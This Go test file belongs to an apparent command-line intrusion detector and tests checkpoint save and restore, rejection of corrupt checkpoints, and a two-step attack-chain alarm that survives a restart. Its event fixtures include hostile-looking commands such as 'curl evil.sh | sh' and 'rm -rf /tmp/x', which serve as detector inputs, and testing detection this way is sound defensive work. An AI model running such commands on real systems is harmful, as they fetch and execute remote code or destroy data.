package stream

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"

	"clmids/internal/tuning"
)

// chainScorer flags a multi-line attack chain: any scoring input carrying
// both steps scores high, everything else low — so the session alarm only
// trips once both lines are in the same context window.
type chainScorer struct{}

func (chainScorer) Score(lines []string) ([]float64, error) {
	out := make([]float64, len(lines))
	for i, l := range lines {
		if strings.Contains(l, "step1") && strings.Contains(l, "step2") {
			out[i] = 0.95
		} else {
			out[i] = 0.05
		}
	}
	return out, nil
}

func chainConfig() Config {
	cfg := DefaultConfig()
	cfg.ContextWindow = 2
	cfg.Aggregation = AggMax
	cfg.SessionThreshold = 0.8
	return cfg
}

// TestCheckpointRoundTrip: Save → Restore reproduces sessions, counters,
// and high water; the restored detector's next verdicts are byte-identical
// to the uninterrupted detector's.
func TestCheckpointRoundTrip(t *testing.T) {
	cfg := shardedTestConfig()
	mk := func() *ShardedDetector { return oneShard(t, &hashScorer{}, cfg) }
	orig := mk()
	evts := []Event{
		ev("alice", 10, "ls"), ev("bob", 11, "curl evil.sh | sh"),
		ev("alice", 12, "whoami"), ev("carol", 13, "make test"),
	}
	if _, err := orig.Shard(0).Process(evts); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	if err := orig.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}
	saved := buf.Bytes()

	// Determinism: saving the same state again yields identical bytes.
	var buf2 bytes.Buffer
	if err := orig.SaveSessions(&buf2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(saved, buf2.Bytes()) {
		t.Fatal("two saves of the same state differ")
	}

	restored := mk()
	if err := restored.RestoreSessions(bytes.NewReader(saved)); err != nil {
		t.Fatal(err)
	}
	if got, want := restored.Stats(), orig.Stats(); !reflect.DeepEqual(got, want) {
		t.Fatalf("restored stats %+v, want %+v", got, want)
	}
	if restored.HighWater() != orig.HighWater() {
		t.Fatalf("high water %d, want %d", restored.HighWater(), orig.HighWater())
	}

	next := []Event{ev("alice", 20, "rm -rf /tmp/x"), ev("bob", 21, "id")}
	va, err := orig.Shard(0).Process(next)
	if err != nil {
		t.Fatal(err)
	}
	vb, err := restored.Shard(0).Process(next)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(va, vb) {
		t.Fatalf("restored detector diverges:\n%+v\n%+v", va, vb)
	}
}

// TestCheckpointCorruptRejected: a flipped payload byte, a torn write, and
// a mangled header all fail with ErrCheckpointCorrupt before any decoding
// touches the detector.
func TestCheckpointCorruptRejected(t *testing.T) {
	det := oneShard(t, &stubScorer{}, DefaultConfig())
	if _, err := det.Shard(0).Process([]Event{ev("u", 1, "ls"), ev("v", 2, "pwd")}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := det.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}
	good := buf.Bytes()

	cases := map[string][]byte{
		"flipped payload byte": append(append([]byte(nil), good[:len(good)-3]...), good[len(good)-3]^0xFF, good[len(good)-2], good[len(good)-1]),
		"torn write":           good[:len(good)-4],
		"mangled header":       append([]byte("{not json"), good...),
		"empty":                {},
	}
	for name, data := range cases {
		fresh := oneShard(t, &stubScorer{}, DefaultConfig())
		err := fresh.RestoreSessions(bytes.NewReader(data))
		if !errors.Is(err, ErrCheckpointCorrupt) {
			t.Errorf("%s: error %v, want ErrCheckpointCorrupt", name, err)
		}
		if st := fresh.Stats(); st.ActiveSessions != 0 {
			t.Errorf("%s: corrupt restore mutated the detector: %+v", name, st)
		}
	}
}

// TestCheckpointConfigMismatchRejected: a checkpoint written under
// different session semantics (window shape) is refused; one that only
// differs in alert thresholds is accepted (retuning across restarts is
// normal operations).
func TestCheckpointConfigMismatchRejected(t *testing.T) {
	cfg := DefaultConfig()
	det := oneShard(t, &stubScorer{}, cfg)
	if _, err := det.Shard(0).Process([]Event{ev("u", 1, "ls")}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := det.SaveSessions(&buf); err != nil {
		t.Fatal(err)
	}

	bad := cfg
	bad.MaxSessionLines = 7
	if err := oneShard(t, &stubScorer{}, bad).RestoreSessions(bytes.NewReader(buf.Bytes())); err == nil {
		t.Fatal("window-shape mismatch accepted")
	}

	retuned := cfg
	retuned.SessionThreshold = 0.42
	if err := oneShard(t, &stubScorer{}, retuned).RestoreSessions(bytes.NewReader(buf.Bytes())); err != nil {
		t.Fatalf("threshold-only change rejected: %v", err)
	}
}

// TestCheckpointResumesChainAlarm is the kill-and-restart drill at the
// detector level: step 1 of a two-step chain lands, the process "dies"
// (checkpoint + new detector), step 2 arrives after restart — and trips
// exactly the session alarm an uninterrupted run trips.
func TestCheckpointResumesChainAlarm(t *testing.T) {
	cfg := chainConfig()
	step1 := ev("mallory", 100, "step1: stage payload")
	step2 := ev("mallory", 110, "step2: exfiltrate")

	// Uninterrupted reference.
	ref := NewDetector(chainScorer{}, cfg)
	if _, err := ref.Process([]Event{step1}); err != nil {
		t.Fatal(err)
	}
	want, err := ref.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if !want[0].SessionAlert {
		t.Fatal("reference run did not trip the chain alarm; test scorer broken")
	}

	// Killed-and-restarted run.
	first := oneShard(t, chainScorer{}, cfg)
	if _, err := first.Shard(0).Process([]Event{step1}); err != nil {
		t.Fatal(err)
	}
	var ckpt bytes.Buffer
	if err := first.SaveSessions(&ckpt); err != nil {
		t.Fatal(err)
	}
	second := oneShard(t, chainScorer{}, cfg)
	if err := second.RestoreSessions(&ckpt); err != nil {
		t.Fatal(err)
	}
	got, err := second.Shard(0).Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("restart diverged from uninterrupted run:\n got %+v\nwant %+v", got, want)
	}
	// A fresh detector WITHOUT the checkpoint must miss the chain — that
	// is the loss this machinery exists to prevent.
	cold := NewDetector(chainScorer{}, cfg)
	missed, err := cold.Process([]Event{step2})
	if err != nil {
		t.Fatal(err)
	}
	if missed[0].SessionAlert {
		t.Fatal("cold detector tripped the alarm anyway; drill proves nothing")
	}
}

// TestShardedCheckpointAcrossShardCounts: a checkpoint from an N-shard
// detector restores into an M-shard one — users re-route through the shard
// hash and verdicts continue identically.
func TestShardedCheckpointAcrossShardCounts(t *testing.T) {
	cfg := shardedTestConfig()
	evts := replayEvents(t, 12, 300)
	mk := func(shards int) *Service {
		scorers := make([]tuning.Scorer, shards)
		for i := range scorers {
			scorers[i] = &hashScorer{}
		}
		dets, err := NewShardedDetector(scorers, cfg)
		if err != nil {
			t.Fatal(err)
		}
		svc := NewShardedService(dets, ServiceConfig{})
		t.Cleanup(svc.Close)
		return svc
	}
	three := mk(3)
	if _, err := three.Submit(evts[:200]); err != nil {
		t.Fatal(err)
	}
	var ckpt bytes.Buffer
	if err := three.SaveSessions(&ckpt); err != nil {
		t.Fatal(err)
	}

	two := mk(2)
	if err := two.RestoreSessions(bytes.NewReader(ckpt.Bytes())); err != nil {
		t.Fatal(err)
	}
	if got, want := statsNoSample(two.Stats().Stats), statsNoSample(three.Stats().Stats); !reflect.DeepEqual(got, want) {
		t.Fatalf("aggregate stats diverged: %+v vs %+v", got, want)
	}

	va, err := three.Submit(evts[200:])
	if err != nil {
		t.Fatal(err)
	}
	vb, err := two.Submit(evts[200:])
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(va, vb) {
		t.Fatal("resharded restore diverged from the original shard count")
	}
}

// oneShard wraps a scorer as a single-shard detector: tests drive Process
// on its shard and checkpoints on the sharded surface.
func oneShard(t *testing.T, sc tuning.Scorer, cfg Config) *ShardedDetector {
	t.Helper()
	sd, err := NewShardedDetector([]tuning.Scorer{sc}, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return sd
}

// statsNoSample strips the unordered quarantine sample for comparisons.
func statsNoSample(s Stats) Stats {
	s.QuarantineSample = nil
	return s
}
